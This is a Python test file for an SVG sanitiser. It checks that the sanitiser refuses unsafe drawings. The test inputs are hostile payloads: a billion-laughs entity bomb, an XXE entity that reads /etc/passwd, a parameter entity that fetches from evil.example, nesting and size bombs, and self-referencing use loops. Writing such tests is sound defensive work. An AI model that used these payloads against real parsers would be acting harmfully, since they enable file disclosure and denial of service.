"""Drawings that cannot be made safe, or cost more than they may, are refused with their own error."""

import pytest

from jobforge.execution.errors import JobFailure
from jobforge.readylayer.drawing.cleaning import clean
from jobforge.readylayer.errors import EntitiesDeclared, TooLarge, Unreadable, UnsupportedType


def laughs() -> str:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE svg [<!ENTITY l0 "ha">{lines}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>'


@pytest.mark.parametrize(
    ("file", "failure", "code"),
    [
        (laughs(), EntitiesDeclared, "asset.xml_entities"),
        ('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', EntitiesDeclared, None),
        ('<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><svg/>', EntitiesDeclared, None),
        ("<svg><g></svg>", Unreadable, "asset.unreadable"),
        ("<svg", Unreadable, None),
        ("<svg>&nbsp;</svg>", Unreadable, None),
        ("<html><svg/></html>", UnsupportedType, "asset.unsupported_type"),
        ("<svg>" + "<g>" * 300 + "</g>" * 300 + "</svg>", TooLarge, "asset.too_large"),
        ("<svg>" + "<g/>" * 200_001 + "</svg>", TooLarge, None),
    ],
)
def test_what_cannot_be_made_safe_is_refused(file: str, failure: type[JobFailure], code: str | None) -> None:
    """Entities are never expanded, external ones never read; depth and number are bounded."""
    with pytest.raises(failure) as raised:
        clean(file.encode(), lambda _: False)
    assert code in (None, raised.value.code)


def drawing(inside: str) -> bytes:
    """With this between the tags of its root."""
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'.encode()


@pytest.mark.parametrize(
    "copy",
    [
        "<use href='#{}'/>",
        "<use xlink:href='#{}'/>",
        "<rect fill='url(#{})'/>",
        "<rect style='mask:url( &quot;#{}&quot;)'/>",
        "<rect fill='URL(#{})'/>",
    ],
)
def test_a_few_lines_that_stand_for_billions_are_refused(copy: str) -> None:
    """Copies of copies of copies."""
    layers = "".join(f"<g id='l{n}'>{copy.format(f'l{n - 1}') * 10}</g>" for n in range(1, 10))
    with pytest.raises(TooLarge, match="repeats itself"):
        clean(drawing(f"<g id='l0'/>{layers}"), lambda _: False)


def test_a_drawing_that_contains_itself_is_refused() -> None:
    """It has no end."""
    with pytest.raises(Unreadable, match="copy of itself"):
        clean(drawing("<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>"), lambda _: False)
